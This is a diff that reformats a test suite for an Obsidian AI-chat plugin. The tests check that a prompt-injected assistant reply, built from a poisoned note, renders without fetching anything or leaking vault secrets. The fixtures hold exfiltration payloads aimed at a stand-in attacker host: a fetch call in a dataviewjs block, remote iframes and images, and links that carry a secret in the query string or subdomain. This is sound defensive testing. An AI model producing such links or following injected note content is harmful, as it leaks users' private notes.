@@ -10,7 +10,15 @@ import { fetchedUrls } from "../support/fetched-urls";
 import { startPlugin, stopPlugin } from "./support/plugin";
 import { until } from "./support/until";
 import { DEFAULT_CONFIG_DIR } from "../../src/vault/paths";
-import { ATTACKER, POISONED_NOTE, POISONED_PATH, POISONED_REPLY, SECRET, SECRET_NOTE, SECRET_PATH } from "../support/injection";
+import {
+	ATTACKER,
+	POISONED_NOTE,
+	POISONED_PATH,
+	POISONED_REPLY,
+	SECRET,
+	SECRET_NOTE,
+	SECRET_PATH,
+} from "../support/injection";
 
 const THREAD = "t_injected";
 
@@ -19,7 +27,11 @@ function readCall(id: string, path: string, text: string): object[] {
 		{ type: "tool_call_proposed", callId: id, tool: "readNote", args: { path }, messageId: "m2" },
 		{ type: "tool_call_decided", callId: id, decision: "approved", by: "policy" },
 		{ type: "tool_call_started", callId: id },
-		{ type: "tool_call_completed", callId: id, result: { status: "success", message: `${path} (${text.split("\n").length} lines):\n${text}`, path } },
+		{
+			type: "tool_call_completed",
+			callId: id,
+			result: { status: "success", message: `${path} (${text.split("\n").length} lines):\n${text}`, path },
+		},
 	];
 }
 
@@ -43,9 +55,14 @@ async function appWithThread(events: object[]): Promise<App> {
 	const app = new App({ win: window as never });
 	app.vault.seed({ [POISONED_PATH]: POISONED_NOTE, [SECRET_PATH]: SECRET_NOTE, "Daily.md": "# Daily\n" });
 	const at = "2026-01-10T09:00:00.000Z";
-	const lines = [{ type: "thread_created", v: 1, title: "Summary" }, ...events].map((event, i) => JSON.stringify({ seq: i + 1, threadId: THREAD, at, ...event }));
+	const lines = [{ type: "thread_created", v: 1, title: "Summary" }, ...events].map((event, i) =>
+		JSON.stringify({ seq: i + 1, threadId: THREAD, at, ...event }),
+	);
 	await app.vault.adapter.mkdir(`${DEFAULT_CONFIG_DIR}/plugins/redline/data/threads`);
-	await app.vault.adapter.write(`${DEFAULT_CONFIG_DIR}/plugins/redline/data/threads/${THREAD}.jsonl`, lines.join("\n") + "\n");
+	await app.vault.adapter.write(
+		`${DEFAULT_CONFIG_DIR}/plugins/redline/data/threads/${THREAD}.jsonl`,
+		lines.join("\n") + "\n",
+	);
 	return app;
 }
 
@@ -53,11 +70,18 @@ class Dataview extends Plugin {}
 
 async function openReply(app: App): Promise<HTMLElement> {
 	app.runCommand("redline:open-chat");
-	return until(() => [...app.doc.querySelectorAll<HTMLElement>(".redline-view .redline-message-assistant .redline-markdown")].find((el) => el.textContent?.includes("summary")) ?? null);
+	return until(
+		() =>
+			[...app.doc.querySelectorAll<HTMLElement>(".redline-view .redline-message-assistant .redline-markdown")].find(
+				(el) => el.textContent?.includes("summary"),
+			) ?? null,
+	);
 }
 
 function button(root: ParentNode, name: string): HTMLButtonElement {
-	const found = [...root.querySelectorAll("button")].find((b) => (b.getAttribute("aria-label") ?? b.textContent) === name);
+	const found = [...root.querySelectorAll("button")].find(
+		(b) => (b.getAttribute("aria-label") ?? b.textContent) === name,
+	);
 	if (!found) throw new Error(`no button ${name}`);
 	return found;
 }
@@ -92,19 +116,29 @@ describe("a prompt-injected reply in the Obsidian pane", () => {
 	it("loads nothing from another host and runs no other plugin's processor on its code, block or inline", async () => {
 		const app = await appWithInjectedReply(`${POISONED_REPLY}\n\nAnd \`$= dv.pages().length\` inline.`);
 		const dataview = vi.fn();
-		const other = new Dataview(app, { id: "dataview", name: "Dataview", version: "1", minAppVersion: "1", author: "", description: "" });
+		const other = new Dataview(app, {
+			id: "dataview",
+			name: "Dataview",
+			version: "1",
+			minAppVersion: "1",
+			author: "",
+			description: "",
+		});
 		other.registerMarkdownCodeBlockProcessor("dataviewjs", dataview);
 		// Dataview's inline JS queries: inline code that starts with "$=", found by a post-processor.
 		const inlineQueries: string[] = [];
 		other.registerMarkdownPostProcessor((el) => {
-			for (const code of Array.from(el.querySelectorAll("code"))) if (code.textContent?.startsWith("$=")) inlineQueries.push(code.textContent);
+			for (const code of Array.from(el.querySelectorAll("code")))
+				if (code.textContent?.startsWith("$=")) inlineQueries.push(code.textContent);
 		});
 		const { plugin } = await startPlugin(app);
 		const reply = await openReply(app);
 
 		expect(MarkdownRenderer.loads).toEqual([]);
 		expect(fetchedUrls(reply)).toEqual([]);
-		expect(reply.querySelectorAll("img, iframe, video, audio, embed, object, source, link, style, script")).toHaveLength(0);
+		expect(
+			reply.querySelectorAll("img, iframe, video, audio, embed, object, source, link, style, script"),
+		).toHaveLength(0);
 		expect(dataview).not.toHaveBeenCalled();
 		expect(inlineQueries).toEqual([]);
 		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain("$= dv.pages().length");
@@ -114,27 +148,47 @@ describe("a prompt-injected reply in the Obsidian pane", () => {
 		// Raw HTML is shown as text, code as code.
 		expect(shownText(reply)).toContain(`<iframe src="https://${ATTACKER}/frame"></iframe>`);
 		expect(shownText(reply)).toContain(`<div style="background:url(https://${ATTACKER}/bg.png)">Styled</div>`);
-		expect(reply.querySelector("pre code.language-dataviewjs")?.textContent).toContain(`fetch("https://${ATTACKER}/?d="`);
+		expect(reply.querySelector("pre code.language-dataviewjs")?.textContent).toContain(
+			`fetch("https://${ATTACKER}/?d="`,
+		);
 		// Highlighted by Obsidian's Prism, which only colours its text.
 		await until(() => reply.querySelector("pre code.language-dataviewjs span.token"));
-		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(`![](https://${ATTACKER}/in-code.png)`);
+		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(
+			`![](https://${ATTACKER}/in-code.png)`,
+		);
 		other.unload();
 		await stopPlugin(plugin);
 	});
 
 	it("renders where nothing fetches: another plugin's post-processor that adds a remote image builds it in a document with no window, and the pane never holds it", async () => {
 		// A favicon plugin: an <img> before each external link, from the link's host (which can carry a secret).
-		const app = await appWithInjectedReply(`${POISONED_REPLY}\n\nSee [the status page](https://${SECRET}.${ATTACKER}/status).`);
-		const favicons = new Dataview(app, { id: "favicons", name: "Favicons", version: "1", minAppVersion: "1", author: "", description: "" });
+		const app = await appWithInjectedReply(
+			`${POISONED_REPLY}\n\nSee [the status page](https://${SECRET}.${ATTACKER}/status).`,
+		);
+		const favicons = new Dataview(app, {
+			id: "favicons",
+			name: "Favicons",
+			version: "1",
+			minAppVersion: "1",
+			author: "",
+			description: "",
+		});
 		const made: HTMLImageElement[] = [];
 		favicons.registerMarkdownPostProcessor((el) => {
 			for (const a of Array.from(el.querySelectorAll<HTMLElement>("a.external-link"))) {
-				made.push(a.createEl("img", { attr: { src: `https://${new URL(a.getAttribute("href") ?? "").host}/favicon.ico` }, prepend: true }));
+				made.push(
+					a.createEl("img", {
+						attr: { src: `https://${new URL(a.getAttribute("href") ?? "").host}/favicon.ico` },
+						prepend: true,
+					}),
+				);
 			}
 		});
 		const inserted: string[] = [];
 		const observer = new MutationObserver((records) => {
-			for (const record of records) for (const node of Array.from(record.addedNodes)) if (node.nodeType === 1) inserted.push(...fetchedUrls(node as Element));
+			for (const record of records)
+				for (const node of Array.from(record.addedNodes))
+					if (node.nodeType === 1) inserted.push(...fetchedUrls(node as Element));
 		});
 		observer.observe(app.doc, { subtree: true, childList: true });
 		const { plugin } = await startPlugin(app);
@@ -218,17 +272,43 @@ describe("a prompt-injected reply in the Obsidian pane", () => {
 			{
 				type: "tool_call_completed",
 				callId: "c2",
-				result: { status: "success", message: `Notes matching "shed":\n1. Garden/Shed.md\n   3: ${LOCK}`, data: { query: "shed", offset: 0, hits: [{ path: "Garden/Shed.md", title: "Shed", tags: [], score: 1, covered: 1, of: 1, truncated: false, lines: [{ line: 3, snippet: LOCK }] }] } },
+				result: {
+					status: "success",
+					message: `Notes matching "shed":\n1. Garden/Shed.md\n   3: ${LOCK}`,
+					data: {
+						query: "shed",
+						offset: 0,
+						hits: [
+							{
+								path: "Garden/Shed.md",
+								title: "Shed",
+								tags: [],
+								score: 1,
+								covered: 1,
+								of: 1,
+								truncated: false,
+								lines: [{ line: 3, snippet: LOCK }],
+							},
+						],
+					},
+				},
 			},
 			{ type: "assistant_message_started", messageId: "m6" },
-			{ type: "assistant_token", messageId: "m6", text: `Here is your summary. See [the bank](https://${ATTACKER}/?p=${SECRET}) and [the shed](https://${ATTACKER}/s/4471-Quince).` },
+			{
+				type: "assistant_token",
+				messageId: "m6",
+				text: `Here is your summary. See [the bank](https://${ATTACKER}/?p=${SECRET}) and [the shed](https://${ATTACKER}/s/4471-Quince).`,
+			},
 			{ type: "assistant_message_completed", messageId: "m6", finishReason: "stop" },
 			{ type: "status", status: "idle" },
 		]);
 		const { plugin } = await startPlugin(app);
 		onTestFinished(() => stopPlugin(plugin));
 		const reply = await openReply(app);
-		for (const [name, from] of [["the bank", SECRET_PATH], ["the shed", "Garden/Shed.md"]] as const) {
+		for (const [name, from] of [
+			["the bank", SECRET_PATH],
+			["the shed", "Garden/Shed.md"],
+		] as const) {
 			linkNamed(reply, name).click();
 			const ask = reply.querySelector<HTMLElement>('[role="group"][aria-label="Open this link?"]');
 			expect(ask?.textContent).toContain(`This link contains text from ${from}.`);
@@ -238,7 +318,9 @@ describe("a prompt-injected reply in the Obsidian pane", () => {
 	});
 
 	it("leaves obsidian:, file:, javascript: and data: links dead, and internal links only inside the vault", async () => {
-		const app = await appWithInjectedReply(`${POISONED_REPLY}\n\nSee [[Daily]], [up](../../outside.md) and [[../secrets]].`);
+		const app = await appWithInjectedReply(
+			`${POISONED_REPLY}\n\nSee [[Daily]], [up](../../outside.md) and [[../secrets]].`,
+		);
 		const { plugin } = await startPlugin(app);
 		const reply = await openReply(app);
 		for (const name of ["the vault", "a file", "a script", "data"]) {
@@ -246,7 +328,9 @@ describe("a prompt-injected reply in the Obsidian pane", () => {
 			expect(link.localName).toBe("span");
 			link.click();
 		}
-		expect(reply.querySelectorAll("[href^='obsidian:'], [href^='file:'], [href^='javascript:'], [href^='data:']")).toHaveLength(0);
+		expect(
+			reply.querySelectorAll("[href^='obsidian:'], [href^='file:'], [href^='javascript:'], [href^='data:']"),
+		).toHaveLength(0);
 		expect(linkNamed(reply, "Daily").getAttribute("data-href")).toBe("Daily");
 		expect(linkNamed(reply, "up").localName).toBe("span");
 		expect(linkNamed(reply, "../secrets").localName).toBe("span");
